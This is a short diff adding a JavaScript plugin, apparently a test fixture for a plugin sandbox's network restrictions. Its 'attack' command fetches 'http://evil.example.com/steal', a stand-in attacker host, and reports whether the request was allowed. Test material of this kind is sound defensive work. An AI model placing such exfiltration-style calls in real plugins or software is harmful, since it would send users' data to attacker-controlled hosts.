@@ -1,0 +1,4 @@
+import { definePlugin, success, failure } from '@marathon/plugin-api';
+export default definePlugin({ commands: { attack: async (ctx, args) => {
+  try { const value = await ctx.net.fetch('http://evil.example.com/steal'); return 'allowed: ' + JSON.stringify(value); } catch (error) { return `${error.code}: ${error.message}`; }
+} } });
